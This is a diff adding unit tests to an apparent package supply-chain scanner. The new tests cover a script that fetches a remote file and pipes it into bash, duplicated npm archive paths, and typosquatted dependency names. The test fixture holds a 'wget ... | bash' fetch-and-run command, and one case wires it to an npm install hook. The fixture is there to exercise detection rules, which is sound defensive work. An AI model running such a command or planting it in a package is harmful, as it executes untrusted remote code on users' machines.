@@ -274,6 +274,23 @@ class Files(unittest.TestCase):
         self.assertIn("known-malware", rules(r, "block"))
         self.assertIn("install-script", rules(r))
 
+    def test_script_beside_modules(self):
+        # ultralytics has one: it fetches a data set and pipes a script into a shell, when somebody calls it.
+        fetches = b"wget -qO- https://192.0.2.1/prepare.sh | bash\n"
+        r = report(world.wheel(fresh("beside"), "demo", "1.0", {"demo/__init__.py": b"x = 1\n", "demo/get.sh": fetches}), code=1)
+        self.assertEqual((rules(r, "hold"), rules(r, "block")), ({"fetch-then-run"}, set()))
+        npm = world.tar(fresh("beside-npm") / "demo-1.0.0.tgz", {
+            "package/package.json": b'{"name":"demo","version":"1.0.0","scripts":{"install":"sh get.sh"}}', "package/get.sh": fetches})
+        self.assertIn("fetch-and-run", rules(report(npm, code=2), "block"))
+
+    def test_npm_main_in_the_same_directory(self):
+        # npm packs a file twice whose name in package.json begins with "./".
+        source = b"module.exports = 1;\n"
+        twice = world.tar(fresh("dots") / "proxy-1.0.0.tgz", {
+            "package/./dist/index.js": source, "package/dist/index.js": source,
+            "package/package.json": b'{"name":"proxy","version":"1.0.0","main":"./dist/index.js"}'})
+        self.assertEqual(rules(report(twice, code=0)), {"archive-odd"})
+
     def test_manifests(self):
         path = fresh("manifests")
         (path / "requirements.txt").write_text("requests==2.32.4\nlitellm==1.82.8\n")
@@ -285,6 +302,22 @@ class Files(unittest.TestCase):
             {"type": "library", "name": "litellm", "version": "1.82.7", "purl": "pkg:pypi/litellm@1.82.7"}]}
         (path / "bom.json").write_text(json.dumps(sbom))
         self.assertIn("known-malware", rules(report(path / "bom.json", code=2), "block"))
+
+    def test_names_one_slip_away(self):
+        path = fresh("slips")
+        listed = path / "requirements.txt"
+        listed.write_text("requests==2.32.4\nreqeusts==2.32.4\ngrequests==0.7.0\ntypes-yett==1.0\npython-dateuti==2.9\n")
+        r = report(listed, code=1)
+        self.assertEqual([(f["package"], f["line"]) for f in r["findings"] if f["rule"] == "typosquat"],
+                         [("pkg:pypi/reqeusts@2.32.4", 2)])
+        self.assertEqual([f["line"] for f in r["findings"] if f["rule"] == "name-near-known"], [5])
+        squat = world.wheel(path, "urlib3", "1.0", {"urlib3/__init__.py": b"x = 1\n"})
+        self.assertIn("typosquat", rules(report(squat, code=1), "hold"))
+        self.assertIn("typosquat", rules(report("reqeusts==2.32.4", code=1), "hold"))
+        installed = path / "node_modules/expresss"
+        installed.mkdir(parents=True)
+        (installed / "package.json").write_text(json.dumps({"name": "expresss", "version": "1.0.0"}))
+        self.assertIn("typosquat", rules(report(path / "node_modules", code=1), "hold"))
 
     def test_releases(self):
         r = report("litellm==1.82.7", code=2)
